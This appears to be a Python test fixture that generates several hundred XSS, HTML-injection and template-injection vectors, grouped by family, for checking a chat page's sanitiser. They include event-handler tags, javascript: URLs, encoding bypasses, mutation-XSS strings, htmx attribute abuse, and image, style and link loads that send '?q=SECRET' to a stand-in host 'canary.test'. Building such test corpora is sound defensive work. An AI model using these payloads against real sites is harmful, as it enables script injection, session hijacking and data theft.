"""At least 500 texts that would run a script, load something or press a button, were they markup.

Made by families: what an attack is written with, where it is put, how it is spelt. The order is
always the same, so that a number in a failure names one vector. `pwned()` is the script's sign of
life, `canary.test` the host that must never be asked.
"""

# ruff: noqa: E501, RUF001, a vector a line; look-alikes are meant

from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

RUN = "pwned()"
AWAY = "http://canary.test/"

# --- what runs by itself, or when it is touched -------------------------------------------

TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "iframe src=x", "object data=x",
    "embed src=x", "input autofocus", "select autofocus", "textarea autofocus", "details open",
    "marquee", "math", "a href=#", "div tabindex=0", "style", "script src=x", "link rel=stylesheet",
    "form", "button popovertarget=x", "template", "custom-x", "dialog open",
)  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart")


def elements() -> Iterator[str]:
    for tag, handler in product(TAGS, HANDLERS):
        yield f"<{tag} {handler}={RUN}>"
    yield f"<script>{RUN}</script>"
    yield f"<script type=module>{RUN}</script>"
    yield f"<script src={AWAY}a.js></script>"
    yield f"<script src=data:text/javascript,{RUN}></script>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script href=data:,{RUN} />"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><set attributeName=onload to={RUN} />"
    yield f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x">'
    yield f"<svg><a href=javascript:{RUN}><text y=20>x</text></a></svg>"
    yield f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject>"
    yield f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;">'
    yield f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>"
    yield f"<meta http-equiv=refresh content='0;url={AWAY}'>"
    yield f"<base href={AWAY}><a href=x>x</a>"
    yield f"<form action=javascript:{RUN}><button>x</button></form>"
    yield f"<form action={AWAY}><input type=submit></form>"
    yield f"<isindex formaction=javascript:{RUN} type=submit>"
    yield f"<img/src=x/onerror={RUN}>"
    yield f"<img src=x:x onerror\n=\n{RUN}//"
    yield f"<<img src=x onerror={RUN}>"
    yield f"<a onclick={RUN}>x"


# --- how it is spelt ----------------------------------------------------------------------

BASE = (
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<script>{RUN}</script>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<iframe src=javascript:{RUN}>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<details open ontoggle={RUN}>",
    f"<img src={AWAY}?q=SECRET>",
)


def spellings() -> Iterator[str]:
    for text in BASE:
        yield text.upper().replace(RUN.upper(), RUN)
        yield text.replace("<", "<\0", 1)
        yield text.replace(" ", "\t\n\f", 1)
        yield text.replace(" ", "/", 1)
        yield escape(text)
        yield "".join(f"&#{ord(c)};" for c in text)
        yield "".join(f"&#x{ord(c):x}" for c in text)
        yield quote(text)
        yield quote(quote(text))
        yield text.replace("<", "\\u003c").replace(">", "\\u003e")
        yield text.replace("<", "\\x3c").replace(">", "\\x3e")
        yield text.replace("<", "＜").replace(">", "＞")
        yield text.replace("<", "\u00c0\u00bc").replace(">", "\u00c0\u00be")
        yield text.replace("<", "\u2028<").replace(">", ">\u2029")
        yield text[:3] + "\u200b" + text[3:]
        yield "\ufeff" + text
        yield "+ADw-" + text[1:-1] + "+AD4-"
        yield text.replace("<", "\\<")
        yield text.rstrip(">")


# --- out of where it was put --------------------------------------------------------------

ENDINGS = (
    '">', "'>", "`>", '" ', "' ", "</textarea>", "</title>", "</style>", "</script>", "-->",
    "--!>", "]]>", "</details>", "</span></div></main>", "</code></pre>", "</p></article>",
    "</svg>", "</select>", "</noscript>", "</button></form>", "\\'}", "'}'", "%}", "?>",
)  # fmt: skip


def escapes() -> Iterator[str]:
    for ending, text in product(ENDINGS, BASE[:3]):
        yield ending + text
    for quote_, name in product("\"'`", ("onmouseover", "onfocus", "hx-on:click", "style")):
        yield f"x{quote_} {name}={quote_}{RUN}{quote_} autofocus x={quote_}"


# --- addresses ----------------------------------------------------------------------------

ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}", f"&#x6A&#x61vascript:{RUN}", f"\x01javascript:{RUN}",
    f"javascript://%0a{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload={RUN}>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "blob:x", "filesystem:x", "file:///etc/passwd", "//canary.test/x", "\\\\canary.test\\x",
    "view-source:x", f"http:javascript:{RUN}", f"https://x/\"onmouseover=\"{RUN}",
    "/logout", "?token=x",
)  # fmt: skip


def links() -> Iterator[str]:
    for address in ADDRESSES:
        yield f"[x]({address})"
        yield f"[x](<{address}>)"
        yield f"![x]({address})"
        yield f"[x]\n\n[x]: {address}"
        yield f"<{address}>"
        yield f'[x](http://x "{address}")'
    for text in (*BASE[:4], f'" onfocus="{RUN}" autofocus x="'):
        yield f"[{text}](http://x)"
        yield f"[x](http://x '{text}')"
        yield f"![{text}](http://x)"
        yield f"[x](http://x{text})"
        yield f"[x]\n\n[x]: http://x '{text}'"


# --- markdown's own blocks ----------------------------------------------------------------

BLOCKS = (
    "# {}", "> {}", "- {}", "1. {}", "a | b\n--|--\n{} | x", "    {}", "```\n{}\n```", "`{}`",
    "*{}*", "~~{}~~", "<!-- {} -->", "<?php {} ?>", "<![CDATA[{}]]>", "<!DOCTYPE {}>", "<div>\n{}",
    "<style>\n{}", "<textarea>\n{}", "{}\n===", "- a\n\n  {}", "[^1]\n\n[^1]: {}",
)  # fmt: skip
INFO = ("```", "~~~", "````")


def blocks() -> Iterator[str]:
    for block, text in product(BLOCKS, (BASE[0], BASE[2])):
        yield block.format(text)
    for fence, text in product(
        INFO, (*BASE[:3], f'"onclick="{RUN}', 'js"><x', "&quot;>", "../../x")
    ):
        yield f"{fence}{text}\nx\n{fence}"


# --- what changes when it is parsed twice ------------------------------------------------

TWICE = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={}&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror={}>">',
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    '<math><mi><table><mglyph><style><math><table id="</table>"><img src=x onerror="{}">',
    '<svg><title><style><a title="</style><img src=x onerror={}>">',
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<template><s><template><s><img src=x onerror={}>@shadow</s></template></s></template>",
    "<select><template><img src=x onerror={}></template></select>",
    "<a href='x'><p><svg><p><style><!--</style><img src=x onerror={}>--></style>",
    "<svg><![CDATA[><img src=x onerror={}>]]></svg>",
    "<p id='<img src=x onerror={}>'>&lt;img src=x onerror={}&gt;",
    "<table><td><a href=x><img src=x onerror={}></table>",
    "<title><a title='</title><img src=x onerror={}>'>",
    "<plaintext><img src=x onerror={}>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={}></style>",
    "<frameset onload={}>",
    "`<img src=x onerror={}>`<img src=x onerror={}>",
    "<img src=`x`onerror={}>",
    "<!--><img src=x onerror={}>-->",
    "<!--[if gte IE 4]><img src=x onerror={}><![endif]-->",
)  # fmt: skip


def mutations() -> Iterator[str]:
    for text in TWICE:
        yield text.replace("{}", RUN)


# --- what other programs would make of it -------------------------------------------------

OTHERS = (
    "$\\href{javascript:%s}{x}$", "$$\\includegraphics{http://canary.test/x}$$",
    "\\(\\htmlData{a=1}{x}\\)", "$\\htmlClass{x onclick=%s}{y}$", "$\\url{javascript:%s}$",
    "\\[\\unicode{<img src=x onerror=%s>}\\]", "$\\def\\x{<svg onload=%s>}\\x$",
    "```mermaid\ngraph TD\nA[<img src=x onerror=%s>]\nclick A %s\n```",
    '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph LR\nA-->B[<svg/onload=%s>]\n```',
    "```mermaid\nsequenceDiagram\nA->>B: <iframe src=javascript:%s>\n```",
    "```html\n<script>%s</script>\n```", "```svg\n<svg onload=%s>\n```",
    "{{ 7 * 7 }}{{ cycler.__init__.__globals__ }}", "{%% include 'page.html' %%}{{ %s }}",
    "${%s}", "#{%s}", "<%%= %s %%>", "{{constructor.constructor('%s')()}}", "[[${%s}]]",
    "<x v-on:click=%s>", "<x @click=%s>", "<x x-data x-init=%s>", "<x ng-init=%s>",
    "<x _='on load call %s'>", "<turbo-stream action=append><template>%s",
)  # fmt: skip


def others() -> Iterator[str]:
    for text in OTHERS:
        yield text.replace("%s", RUN).replace("%%", "%")


# --- what this page's own scripts would heed ----------------------------------------------

HTMX = (
    "hx-get=/logout", "hx-post=/logout hx-trigger=load", f"hx-get={AWAY} hx-trigger=load",
    f"hx-on:click={RUN}", f"hx-on::load={RUN}", f"hx-on:htmx:load={RUN}", f"hx-vals='js:{RUN}'",
    f"hx-vals='javascript:{RUN}' hx-get=/ hx-trigger=load", f'hx-headers=\'js:{{"a":{RUN}}}\'',
    "hx-ws:connect=/ws", "hx-ws:send hx-vals='{\"action\":\"canary_page.sing\"}' hx-trigger=load",
    "ws-send", "ws-connect=ws://canary.test/", "hx-swap-oob=true id=main",
    "hx-swap-oob='outerHTML:#main'", "hx-boost=true", "hx-include=#settings-key",
    "hx-ext=page", "hx-disinherit=*", "hx-confirm=x hx-delete=/", f"hx-trigger='load[{RUN}]' hx-get=/",
    f"hx-live={RUN}", "hx-sse:connect=/x", "hx-preload=/logout", "hx-target=body hx-get=/login",
)  # fmt: skip
OURS = (
    '<span id="page-go" data-path="//canary.test/"></span>',
    '<span id="page-assets" data-styles="//canary.test/x.css" data-scripts="x://canary.test/x.js">'
    "</span><x-y></x-y>",
    '<span id="page-theme" data-theme="x onload="></span>',
    '<button data-open="models-picker">x</button>', "<button data-copy=settings-key>x</button>",
    "<button data-dismiss>x</button>", "<button data-key=Escape>x</button>", "<button data-press=chat-stop>x</button>",
    "<input data-filter=main>", "<form data-order><input name=id><input name=to></form>",
    "<chat-composer><textarea></textarea></chat-composer>", "<chat-log></chat-log>",
    "<form id=chat-send><input name=action value=canary_page.sing></form>",
    "<input form=chat-send name=action value=canary_page.sing>", "<div id=toasts popover>x</div>",
    "<p id=say data-copied=x></p>", "<textarea id=chat-text name=text></textarea>",
    "<hx-partial hx-target=#main hx-swap=innerHTML>x</hx-partial>",
    '<div id="main" hx-swap-oob="innerHTML">x</div>', "<a id=htmx name=htmx>x</a>",
    "<form id=document><input name=getElementById></form>", "<body hx-ws:connect=/ws>",
    "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'>",
)  # fmt: skip


def commands() -> Iterator[str]:
    for text, lead in product(HTMX, ("", "data-")):
        yield f"<div {lead}{text}>x</div>"
    yield from OURS


# --- pictures, styles, and all that loads -------------------------------------------------

LOADS = (
    "![x]({}?q=SECRET)", "![x](<{}>)", "![x][r]\n\n[r]: {}", "[![x]({})]({})", "<img src={}>",
    "<img srcset='{} 1x'>", "<picture><source srcset={}><img></picture>", "<video poster={}>",
    "<video src={}>", "<audio src={} autoplay>", "<track src={}>", "<link rel=stylesheet href={}>",
    "<link rel=prefetch href={}>", "<link rel=dns-prefetch href={}>", "<link rel=preconnect href={}>",
    "<link rel=icon href={}>", "<iframe src={}>", "<object data={}>", "<embed src={}>",
    "<input type=image src={}>", "<body background={}>", "<table background={}>",
    "<style>@import '{}';</style>", "<style>*{{background:url({})}}</style>",
    "<p style='background:url({})'>x</p>", "<p style='list-style:url({})'>x</p>",
    "<svg><image href={} /></svg>", "<svg><feImage href={} /></svg>", "<a ping={} href=/>x</a>",
    "<script src={}></script>", "<style>@font-face{{font-family:x;src:url({})}}</style>",
    "<p style=behavior:url({})>x</p>", "<portal src={}>", "<fencedframe src={}>",
    "<speculationrules>{}</speculationrules>", "<script type=speculationrules>{}</script>",
)  # fmt: skip


def loads() -> Iterator[str]:
    for text in LOADS:
        yield text.replace("{}", AWAY).replace("{{", "{").replace("}}", "}")


FAMILIES = (
    elements, spellings, escapes, links, blocks, mutations, others, commands, loads,
)  # fmt: skip


def vectors() -> list[str]:
    """All of them, none twice."""
    return list(dict.fromkeys(text for family in FAMILIES for text in family()))


def sample(every: int) -> list[str]:
    """Some of each family, for what is slow; always what loads a picture."""
    return list(dict.fromkeys([*vectors()[:: max(1, every)], *BASE, *list(loads())[:5]]))
